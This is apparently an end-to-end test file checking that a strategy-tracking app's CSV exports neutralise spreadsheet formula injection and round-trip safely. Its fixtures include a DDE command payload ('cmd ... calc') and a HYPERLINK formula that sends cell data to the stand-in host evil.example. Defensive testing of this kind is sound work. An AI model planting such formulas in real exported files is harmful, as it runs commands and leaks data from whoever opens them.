import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { ApiClient, createTestApp, describeE2E, TestApp } from './helpers/app';
import { StrategyBuilder } from './helpers/strategy-builder';

const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[-+]?(\d+\.?\d*|\.\d+)(e[-+]?\d+)?$/i;

/** Every cell of a CSV, as a spreadsheet would read it: the header row and every record. */
const cellsOf = (csv: string): string[] => (parse(csv, { relax_column_count: true }) as string[][]).flat();

// The clock is 1 May 2026, so every quarter of 2025-26 is open for returns.
describeE2E('Spreadsheets: safe exports, encodings, binary files, printed periods, .xlsx', () => {
  let t: TestApp;

  beforeAll(async () => {
    t = await createTestApp({ now: new Date('2026-05-01T09:00:00Z') });
  });
  afterAll(() => t.close());

  const importCsv = (client: ApiClient, strategyId: string, csv: string | Buffer, query = '') =>
    client.post(`/api/v1/strategies/${strategyId}/progress/import${query}`).set('Content-Type', 'text/csv').send(csv);

  describe('formula injection', () => {
    let b: StrategyBuilder;
    let lead: string;
    let officer: ApiClient;
    let ids: Record<string, string>;

    beforeAll(async () => {
      b = await new StrategyBuilder(t).init();
      const theme = await b.theme('Community safety');
      lead = await b.partnership({ name: 'Safer Wealden Partnership' });
      officer = await t.as('partnership-officer', [lead]);
      ids = {};
      for (const [code, title] of [
        ['INJ 1', '@Risky title'],
        ['INJ 2', '=cmd|" /C calc"!A0'],
        ['INJ 3', 'Plain title'],
      ]) {
        const target = await b.target({ code, title, themeId: theme, baselineValue: -10, targetValue: 0, baselinePeriod: '2024-25-Q4', targetPeriod: '2025-26-Q4' });
        await b.assign(target.id, lead);
        ids[code] = target.id;
      }
      await importCsv(
        officer,
        b.strategyId,
        stringify(
          [
            { code: 'INJ 1', period: '2025-26-Q2', value: -3.5, commentary: '=1+1', risks: '-fewer patrols', next_actions: '@SUM(A1:A2)' },
            { code: 'INJ 2', period: '2025-26-Q2', value: 7, commentary: '+44 1892 000000', risks: '=HYPERLINK("http://evil.example/?"&A1,"click")', next_actions: '-2' },
          ],
          { header: true },
        ),
      ).expect(200);
      // Text that already starts with a quote, typed through the API, must come back as typed.
      await b.submitReturn(officer, ids['INJ 3'], '2025-26-Q2', -0.25, { commentary: "'=kept as typed", risks: "'tis the season" });
    });

    const exportProgress = async () => (await b.api.get(`/api/v1/strategies/${b.strategyId}/progress.csv?period=2025-26-Q2`).expect(200)).text;

    it('writes formula-like text as inert text in progress.csv, and leaves numbers as numbers', async () => {
      const exported = exportProgress();
      const records = parse(await exported, { columns: true }) as Record<string, string>[];
      expect(records.map((r) => [r.code, r.value, r.commentary, r.risks, r.next_actions])).toEqual([
        ['INJ 1', '-3.5', "'=1+1", "'-fewer patrols", "'@SUM(A1:A2)"],
        ['INJ 2', '7', "'+44 1892 000000", '\'=HYPERLINK("http://evil.example/?"&A1,"click")', '-2'],
        ['INJ 3', '-0.25', "''=kept as typed", "'tis the season", ''],
      ]);
      expect(cellsOf(await exported).filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell))).toEqual([]);
    });

    it('neutralises the return template and the targets export too', async () => {
      const template = (await officer.get(`/api/v1/partnerships/${lead}/returns/template.csv?period=2025-26-Q2`).expect(200)).text;
      const rows = parse(template, { columns: true }) as Record<string, string>[];
      expect(rows.find((r) => r.code === 'INJ 1')).toMatchObject({ title: "'@Risky title", value: '-3.5', commentary: "'=1+1" });
      expect(cellsOf(template).filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell))).toEqual([]);

      const targets = (await b.api.get(`/api/v1/strategies/${b.strategyId}/targets.csv`).expect(200)).text;
      const byCode = new Map((parse(targets, { columns: true }) as Record<string, string>[]).map((r) => [r.code, r]));
      expect(byCode.get('INJ 1')).toMatchObject({ title: "'@Risky title", baseline_value: '-10' });
      expect(byCode.get('INJ 2')!.title).toBe('\'=cmd|" /C calc"!A0');
      expect(cellsOf(targets).filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell))).toEqual([]);
    });

    it('round-trips: importing the export (and the template) changes nothing, and the stored text is the original', async () => {
      const exported = await exportProgress();
      const res = await importCsv(b.api, b.strategyId, exported).expect(200);
      expect(res.body).toEqual({ dryRun: false, rows: 3, created: 0, updated: 0, unchanged: 3, skipped: 0 });
      expect(await exportProgress()).toBe(exported);

      const template = (await officer.get(`/api/v1/partnerships/${lead}/returns/template.csv?period=2025-26-Q2`).expect(200)).text;
      expect((await importCsv(officer, b.strategyId, template).expect(200)).body).toMatchObject({ rows: 3, unchanged: 3 });

      const stored = (await b.api.get(`/api/v1/targets/${ids['INJ 1']}/progress?from=2025-26-Q2&to=2025-26-Q2`).expect(200)).body.items[0];
      expect(stored).toMatchObject({ value: -3.5, commentary: '=1+1', risks: '-fewer patrols', nextActions: '@SUM(A1:A2)' });
      const typed = (await b.api.get(`/api/v1/targets/${ids['INJ 3']}/progress?from=2025-26-Q2&to=2025-26-Q2`).expect(200)).body.items[0];
      expect(typed).toMatchObject({ value: -0.25, commentary: "'=kept as typed", risks: "'tis the season" });
    });
  });
});
